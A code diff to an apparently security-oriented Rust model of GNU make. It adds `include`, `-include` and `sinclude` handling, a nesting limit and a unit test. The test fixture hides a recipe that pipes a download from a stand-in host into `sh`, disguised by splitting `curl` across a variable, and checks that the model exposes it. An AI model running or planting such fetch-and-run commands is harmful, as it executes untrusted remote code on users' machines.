@@ -15,8 +15,11 @@
 //! `.SHELLFLAGS`; the text functions `subst`, `patsubst`, `strip`,
 //! `findstring`, `filter`, `filter-out`, `addprefix`, `addsuffix`, `word`,
 //! `words`, `firstword`, `lastword`, `if`, `or`, `and`, `call`, `value`,
-//! `foreach`, `shell`, `info`, `warning`. Not modelled: pattern and suffix
-//! rules, `include`, `eval`, conditionals (`ifeq`: both branches are read),
+//! `foreach`, `shell`, `info`, `warning`; `include`, `-include` and
+//! `sinclude` (each named file read at that point, as if its text stood
+//! there; a missing file under `include` is fatal: nothing runs). Not
+//! modelled: pattern and suffix rules, remaking an included file, `eval`,
+//! conditionals (`ifeq`: both branches are read),
 //! and timestamps (a target that exists as a file and is not phony is up to
 //! date; any other target is made).
 
@@ -28,6 +31,8 @@ const MAX_NEST: u8 = 10;
 const MAX_REFS: usize = 20_000;
 /// Recipe lines run per `make` line, at most.
 const MAX_LINES: usize = 512;
+/// Nested `include`s followed, at most.
+const MAX_INCLUDE: u8 = 8;
 
 /// A variable: its text and whether it is expanded at each use.
 #[derive(Debug, Clone)]
@@ -141,6 +146,9 @@ pub fn invocation(args: &[String]) -> Invocation {
     inv
 }
 
+/// The text of the file a name make reads names (None: no such file).
+pub type Load<'r> = &'r dyn Fn(&str) -> Option<String>;
+
 /// A makefile being read and made. `run` runs a shell command and returns
 /// its output (`$(shell …)`, `!=`).
 pub struct Make<'r> {
@@ -151,6 +159,11 @@ pub struct Make<'r> {
     phony: BTreeSet<String>,
     refs: usize,
     run: &'r mut dyn FnMut(&str) -> String,
+    /// The text of a file an `include` names (None: no such file).
+    load: Option<Load<'r>>,
+    includes: u8,
+    /// An `include` named a missing file: make stops before any recipe.
+    fatal: bool,
 }
 
 /// A recipe line to hand to the shell, with make's prefixes removed.
@@ -189,7 +202,43 @@ impl<'r> Make<'r> {
             phony: BTreeSet::new(),
             refs: 0,
             run,
+            load: None,
+            includes: 0,
+            fatal: false,
         }
+    }
+
+    /// `include` lines read the file `load` gives for each name.
+    pub fn with_includes(mut self, load: Load<'r>) -> Self {
+        self.load = Some(load);
+        self
+    }
+
+    /// `include NAMES` (`-include`, `sinclude`: missing files are skipped):
+    /// each file read here. Returns false when the line is no include.
+    fn include(&mut self, s: &str) -> bool {
+        let (names, optional) = if let Some(n) = s.strip_prefix("include ") {
+            (n, false)
+        } else if let Some(n) = s.strip_prefix("-include ").or_else(|| s.strip_prefix("sinclude ")) {
+            (n, true)
+        } else {
+            return false;
+        };
+        let names: Vec<String> = self.expand(names, 0).split_whitespace().map(String::from).collect();
+        for n in names {
+            let text = self.load.and_then(|l| l(&n));
+            match text {
+                Some(t) if self.includes < MAX_INCLUDE => {
+                    self.includes += 1;
+                    self.read(&t);
+                    self.includes -= 1;
+                }
+                Some(_) => {}
+                None if optional => {}
+                None => self.fatal = true,
+            }
+        }
+        true
     }
 
     fn set(&mut self, name: &str, text: String, recursive: bool) {
@@ -264,9 +313,11 @@ impl<'r> Make<'r> {
                 || s.starts_with("ifndef")
                 || s == "else"
                 || s == "endif"
-                || s.starts_with("include ")
-                || s.starts_with("-include ")
             {
+                continue;
+            }
+            if self.include(s) {
+                current.clear();
                 continue;
             }
             if let Some((name, op, value)) = split_assignment(s) {
@@ -628,6 +679,9 @@ impl<'r> Make<'r> {
         };
         let mut done = BTreeSet::new();
         let mut out = Vec::new();
+        if self.fatal {
+            return out;
+        }
         for g in goals {
             self.make(&g, dry_run, exists, &mut done, &mut out, 0);
         }
@@ -811,6 +865,37 @@ mod tests {
             m.recipe_lines(&inv.goals, inv.dry_run, exists)
         };
         (l.into_iter().map(|r| r.text).collect(), ran)
+    }
+
+    #[test]
+    fn slo_11_lab_make_reads_the_files_include_names_where_it_names_them() {
+        let load = |n: &str| match n {
+            "rules.mk" => Some("R = rl\nfetch:\n\tcu$(R) -s https://x.example/a | sh\n".to_string()),
+            "mk/vars.mk" => Some("GOAL = fetch\n".to_string()),
+            _ => None,
+        };
+        let run_with = |text: &str| {
+            let mut run = |_: &str| String::new();
+            let mut m = Make::new(&[], &mut run).with_includes(&load);
+            m.read(text);
+            let l = m.recipe_lines(&[], false, &|_| false);
+            l.into_iter().map(|r| r.text).collect::<Vec<_>>()
+        };
+        let fetch = ["curl -s https://x.example/a | sh"];
+        // The included rule is the first one make reads: the default goal.
+        assert_eq!(run_with("include rules.mk\nall:\n\techo hi\n"), fetch);
+        // Names are expanded; several names; `-include` skips a missing one.
+        assert_eq!(run_with("D = mk\n-include nope.mk $(D)/vars.mk rules.mk\n"), fetch);
+        assert_eq!(run_with("sinclude nope.mk\nall:\n\techo hi\n"), ["echo hi"]);
+        // `include` of a missing file is fatal: nothing runs.
+        assert!(run_with("include nope.mk\nall:\n\techo hi\n").is_empty());
+        // A file including itself stops at the nesting bound.
+        let selfish = |n: &str| (n == "a.mk").then(|| "include a.mk\nall:\n\techo hi\n".to_string());
+        let mut run = |_: &str| String::new();
+        let mut m = Make::new(&[], &mut run).with_includes(&selfish);
+        m.read("include a.mk\n");
+        let n = m.recipe_lines(&[], false, &|_| false).len();
+        assert!((1..=usize::from(MAX_INCLUDE) + 1).contains(&n), "{n}");
     }
 
     #[test]
